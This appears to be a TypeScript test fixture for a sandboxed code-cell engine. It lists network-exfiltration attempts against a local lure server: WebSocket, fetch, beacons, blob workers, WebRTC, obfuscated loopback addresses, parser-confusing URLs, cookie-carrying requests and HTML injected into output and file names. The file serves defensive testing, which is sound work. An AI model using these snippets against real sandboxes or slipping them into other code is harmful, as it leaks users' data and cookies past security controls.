// Out to the network: by what a realm has, and by how URLs can be written. Other ways are what an
// allowed server, or the view that shows a cell, does for it.
import type { Attack } from '../attack.ts';

/** Long enough for a connection on the loopback to begin. */
const linger = 'await new Promise((done) => setTimeout(done, 50));';
const realm = 'Function("return this")()';

export const exfiltrations: readonly Attack[] = [
  {
    name: 'a WebSocket',
    cells: `new (${realm}.WebSocket)(lures.http.replace('http', 'ws') + '/leak'); ${linger}`,
    without: 'engine',
    harm: 'network',
  },
  {
    name: 'an EventSource',
    cells: `new EventSource(lures.http + '/leak'); ${linger}`,
    without: 'engine',
    harm: 'network',
  },
  {
    name: 'an XMLHttpRequest',
    cells: `const request = new XMLHttpRequest(); request.open('GET', lures.http + '/leak', false); request.send()`,
    without: 'engine',
    harm: 'network',
  },
  {
    name: "the realm's own fetch",
    cells: `await ${realm}.fetch(lures.http + '/leak', { mode: 'no-cors' })`,
    without: 'engine',
    harm: 'network',
  },
  {
    name: "a request with the page's cookies to its own server",
    cells: `await ${realm}.fetch(lures.own, { credentials: 'include' })`,
    without: 'engine',
    harm: 'secret',
  },
  {
    name: 'an import of a module from elsewhere',
    cells: `await Function('url', 'return import(url)')(lures.http + '/leak.js')`,
    without: 'engine',
    harm: 'network',
  },
  {
    name: 'a worker made of a blob',
    cells: `
      const { Worker, URL: Urls, Blob } = ${realm};
      new Worker(Urls.createObjectURL(new Blob(['importScripts("' + lures.http + '/leak.js")']))); ${linger}`,
    without: 'engine',
    harm: 'network',
  },
  {
    name: 'WebTransport, over UDP',
    cells: `new (${realm}.WebTransport)('https://127.0.0.1:' + lures.udpPort + '/'); ${linger}`,
    without: 'engine',
    harm: 'network',
  },
  {
    name: 'WebRTC, which asks a STUN server over UDP',
    cells: `
      const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:' + lures.udpPort }] });
      peer.createDataChannel('leak');
      await peer.setLocalDescription(await peer.createOffer()); ${linger}`,
    without: 'page-engine',
    harm: 'network',
  },
  {
    name: 'a beacon',
    cells: `navigator.sendBeacon(lures.http + '/leak', 'x')`,
    without: 'page-engine',
    harm: 'network',
  },
  {
    name: 'an image, a style and a prefetch',
    cells: `
      new Image().src = lures.http + '/leak.png';
      document.body.style.backgroundImage = 'url(' + lures.http + '/leak.png)';
      document.head.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: lures.http + '/leak' })); ${linger}`,
    without: 'page-engine',
    harm: 'network',
  },
  {
    name: 'a window',
    cells: `window.open(lures.http + '/leak'); ${linger}`,
    without: 'page-engine',
    harm: 'network',
  },
  {
    name: 'fetch of a host that no rule names, by every name of the loopback',
    cells: [
      `await Promise.allSettled([lures.http, lures.httpByName, lures.httpByIpv6, lures.httpByMappedIpv6].map((origin) => fetch(origin + '/leak')))`,
      `await fetch(new Request(lures.http + '/leak', { method: 'POST', body: 'x' }))`,
    ],
    without: 'rules',
    harm: 'network',
  },
  {
    name: 'an address in decimal, octal, hexadecimal, and as IPv6',
    cells: `
      const hosts = ['2130706433', '0177.0.0.1', '0x7f.1', '127.1', '[::ffff:127.0.0.1]', '[0:0:0:0:0:ffff:7f00:1]'];
      await Promise.allSettled(hosts.map((host) => fetch('http://' + host + ':' + lures.port + '/leak')))`,
    without: 'rules',
    harm: 'network',
  },
  {
    name: 'a URL that parsers read in two ways',
    cells: `
      const there = '127.0.0.1:' + lures.port, allowed = new URL(lures.allowed).host;
      const urls = ['http:' + there + '/leak', 'http:\\\\\\\\' + there + '\\\\@' + allowed + '/', 'http://' + there + '#@' + allowed,
        'h\\nttp://12\\t7.0.0.1:' + lures.port + '/leak', 'http://' + there + '?@' + allowed + '/', 'http://' + allowed + '@' + there + '/'];
      await Promise.allSettled(urls.map((url) => fetch(url)))`,
    without: 'rules',
    harm: 'network',
  },
  {
    name: 'a request that names another URL the second time it is asked',
    cells: `
      class TwoFaced extends Request {
        #asked = 0;
        get url() { return (this.#asked += 1) % 2 ? lures.allowed : lures.http + '/leak' }
      }
      await Promise.allSettled(Array.from({ length: 4 }, () => fetch(new TwoFaced(lures.allowed))));
      Object.defineProperty(Request.prototype, 'url', { get: () => lures.http + '/leak' });
      await fetch(lures.allowed)`,
    without: 'rules',
    harm: 'network',
  },
  {
    name: 'a redirect by an allowed server',
    cells: `await fetch(lures.allowed + '/redirect')`,
    without: 'fetch-port',
    harm: 'network',
  },
  {
    name: "the page's cookies, to an allowed server",
    cells: `await fetch(lures.allowed + '/', { credentials: 'include', referrer: 'about:client' })`,
    without: 'fetch-port',
    harm: 'secret',
  },
  {
    name: 'markup as the value',
    cells: '`<img src=${lures.http}/leak>`',
    without: 'view',
    harm: 'network',
  },
  {
    name: 'markup in what is printed, and in an error',
    cells: [
      'console.log(`<img src=${lures.http}/leak> ![image](${lures.http}/leak)`); console.error(`<svg><image href=${lures.http}/leak></svg>`)',
      'throw Object.assign(new Error(`<img src=${lures.http}/leak>`), { name: `<img src=${lures.http}/leak>` })',
    ],
    without: 'view',
    harm: 'network',
  },
  {
    name: 'markup as the name of a file',
    cells:
      "fs.writeFileSync(`<img src=${lures.http.replaceAll('/', '&#47;')}>`, `<img src=${lures.http}/leak>`)",
    without: 'view',
    harm: 'network',
  },
];
